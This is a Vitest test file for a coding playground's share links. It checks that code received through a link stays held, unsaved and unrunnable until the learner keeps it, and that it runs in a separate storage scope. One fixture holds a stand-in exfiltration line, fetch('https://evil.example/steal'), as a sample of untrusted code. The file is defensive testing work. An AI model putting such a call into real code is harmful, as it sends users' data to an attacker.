import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { builtCourse } from '../support/built-course.ts';
import { encodeShare } from '../../web/share/link/share-encode.ts';
import { FakeEngine } from './fake-engine.ts';
import { freshState } from './fresh-state.ts';
import { openSharedLink } from '../../web/share/open-shared-link.ts';
import { gateRuns, HELD_MESSAGE } from '../../web/share/gated-engine.ts';
import type { ShareTarget } from '../../web/share/share-target.ts';
import type { PlaygroundEngine } from '../../runtime/contract/engine-api.ts';

const { findLesson } = builtCourse;

const LESSON = findLesson('04-bodies')!;
const MINE = { 'main.ts': '// my own work' };
const STRANGER = { 'main.ts': "fetch('https://evil.example/steal');" };
const request = { method: 'GET' as const, path: '/', headers: [], bodyType: 'none' as const };
const hashOf = (files: Record<string, string>) => `#share=${encodeShare({ lesson: LESSON.id, files, request })}`;

/** A localStorage stand-in holding the learner's saved code for the lesson. */
function stubStorage(saved: Record<string, Record<string, string>> = { [LESSON.id]: MINE }): Map<string, string> {
  const data = new Map([
    ['halo.workspaces.v1', JSON.stringify(saved)],
    ['halo.active.v1', JSON.stringify(LESSON.id)],
  ]);
  vi.stubGlobal('localStorage', {
    getItem: (key: string) => data.get(key) ?? null,
    setItem: (key: string, value: string) => void data.set(key, value),
  });
  return data;
}

/** A fresh playground state, as a page load would build it, with sharing and the run gate wired to it. */
async function load() {
  const s = freshState();
  return {
    ...s,
    HELD_MESSAGE,
    playgroundTarget: s.target,
    openSharedLink: (hash: string, target: ShareTarget) => openSharedLink(s.state, hash, target),
    gateRuns: (engine: PlaygroundEngine) => gateRuns(engine, s.state.workspace),
  };
}

const savedCode = (data: Map<string, string>) =>
  (JSON.parse(data.get('halo.workspaces.v1') ?? '{}') as Record<string, Record<string, string>>)[LESSON.id];

beforeEach(() => vi.unstubAllGlobals());
afterEach(() => vi.unstubAllGlobals());

describe('a share link’s code is the learner’s only once they choose it', () => {
  it('shows a stranger’s code held and unsaved; edits stay unsaved; "Back to my code" restores', async () => {
    const data = stubStorage();
    const s = await load();
    expect(s.openSharedLink(hashOf(STRANGER), s.playgroundTarget)).toBe(true);
    expect(s.filesStore.get().files).toEqual(STRANGER);
    expect(s.workspaceStore.get().unchosen).toEqual({ held: true });
    expect(savedCode(data)).toEqual(MINE);
    s.setFile('main.ts', '// edited shared code');
    expect(savedCode(data)).toEqual(MINE);
    s.showSavedCode();
    expect(s.filesStore.get().files).toEqual(MINE);
    expect(s.workspaceStore.get().unchosen).toBeNull();
    // The learner's own edits save again.
    s.setFile('main.ts', '// mine, later');
    expect(savedCode(data)).toEqual({ 'main.ts': '// mine, later' });
  });

  it('"Run shared code" (keep) saves the shown code, edits included', async () => {
    const data = stubStorage();
    const s = await load();
    s.openSharedLink(hashOf(STRANGER), s.playgroundTarget);
    s.setFile('main.ts', '// edited shared code');
    s.keepShownCode();
    expect(savedCode(data)).toEqual({ 'main.ts': '// edited shared code' });
  });

  it('the lesson’s own solution over saved work runs but waits to be kept; over no saved work it is simply taken', async () => {
    const data = stubStorage();
    const s = await load();
    const solution = LESSON.solution;
    s.openSharedLink(hashOf(solution), s.playgroundTarget);
    expect(s.workspaceStore.get().unchosen).toEqual({ held: false });
    expect(savedCode(data)).toEqual(MINE);

    const fresh = stubStorage({});
    const t = await load();
    t.openSharedLink(hashOf(solution), t.playgroundTarget);
    expect(t.workspaceStore.get().unchosen).toBeNull();
    expect(savedCode(fresh)).toEqual(solution);
  });

  it('the learner’s own saved code, shared back to them, opens as theirs', async () => {
    stubStorage();
    const s = await load();
    s.openSharedLink(hashOf(MINE), s.playgroundTarget);
    expect(s.workspaceStore.get().unchosen).toBeNull();
    expect(s.filesStore.get().files).toEqual(MINE);
  });

  it('opening another lesson leaves the unchosen code behind, unsaved', async () => {
    const data = stubStorage();
    const s = await load();
    s.openSharedLink(hashOf(STRANGER), s.playgroundTarget);
    s.openWorkspace('01-getting-started');
    expect(s.workspaceStore.get().unchosen).toBeNull();
    expect(data.get('halo.workspaces.v1')).not.toContain('evil.example');
  });

  it('a damaged link changes nothing and says so in plain words', async () => {
    const data = stubStorage();
    const s = await load();
    const before = JSON.stringify([...data]);
    expect(s.openSharedLink(hashOf(STRANGER).slice(0, -10), s.playgroundTarget)).toBe(false);
    expect(s.shareStore.get().error).toMatch(/damaged.*Ask the sender for the link again/);
    expect(s.filesStore.get().files).toEqual(MINE);
    expect(JSON.stringify([...data])).toBe(before);
  });

  it('no build made while code was held ever runs, even when it finishes after "Back to my code"', async () => {
    stubStorage();
    const s = await load();
    const fake = new FakeEngine();
    const engine = s.gateRuns(fake);
    s.openSharedLink(hashOf(STRANGER), s.playgroundTarget);
    const held = await engine.compile(s.filesStore.get().files);
    await expect(engine.run(held.ok ? held.bundle : never())).rejects.toThrow(s.HELD_MESSAGE);
    s.showSavedCode();
    // The build of the stranger's code was in flight when the learner went back: it must not start now.
    await expect(engine.run(held.ok ? held.bundle : never())).rejects.toThrow(s.HELD_MESSAGE);
    const own = await engine.compile(s.filesStore.get().files);
    await engine.run(own.ok ? own.bundle : never());
    expect(fake.runs.map((b) => b.code)).toEqual([MINE['main.ts']]);

    // Held after the learner's own program ran: that program stopped (nothing listens: 503s, as in a fresh tab).
    expect(fake.state.status).toBe('running');
    s.openSharedLink(hashOf(STRANGER), s.playgroundTarget);
    expect(fake.state.status).toBe('idle');
    // Chosen: a fresh build of the same code runs.
    s.keepShownCode();
    const chosen = await engine.compile(s.filesStore.get().files);
    await engine.run(chosen.ok ? chosen.bundle : never());
    expect(fake.runs.map((b) => b.code)).toEqual([MINE['main.ts'], STRANGER['main.ts']]);
  });

  it("shared code runs apart from the learner's saved databases until the learner keeps it", async () => {
    stubStorage();
    const s = await load();
    const fake = new FakeEngine();
    const engine = s.gateRuns(fake);
    const runShown = async () => {
      const built = await engine.compile(s.filesStore.get().files);
      // Whatever scope a caller asks for, the page decides.
      await engine.run(built.ok ? built.bundle : never(), { storageScope: s.workspaceStore.get().active });
    };
    await runShown();
    s.openSharedLink(hashOf(STRANGER), s.playgroundTarget);
    s.showUnchosen(s.filesStore.get().files, false);
    await runShown();
    s.keepShownCode();
    await runShown();
    const active = s.workspaceStore.get().active;
    expect(fake.storageScopes).toEqual([`workspace:${active}`, 'shared-code', `workspace:${active}`]);
  });
});

function never(): never {
  throw new Error('expected a good build');
}
